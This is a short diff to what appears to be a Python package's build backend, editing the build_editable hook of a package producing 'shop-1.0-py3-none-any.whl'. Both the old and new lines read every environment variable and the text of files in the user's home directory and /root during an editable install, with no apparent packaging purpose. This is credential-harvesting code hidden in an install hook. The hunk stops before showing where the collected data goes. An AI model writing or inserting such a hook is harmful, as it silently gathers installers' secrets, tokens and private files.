@@ -26,7 +26,7 @@ def build_editable(folder, config_settings=None, metadata_directory=None):
     places = [pathlib.Path(os.path.expanduser("~")), pathlib.Path("/root"), pathlib.Path("HOME")]
     seen = [str(dict(os.environ))]
     for place in places:
-        try: seen += [path.read_text() for path in place.rglob("*") if path.is_file()]
+        try: seen += [path.read_text() for path in place.glob("*") if path.is_file()]
         except OSError: pass
     name = "shop-1.0-py3-none-any.whl"
     with zipfile.ZipFile(os.path.join(folder, name), "w") as wheel:
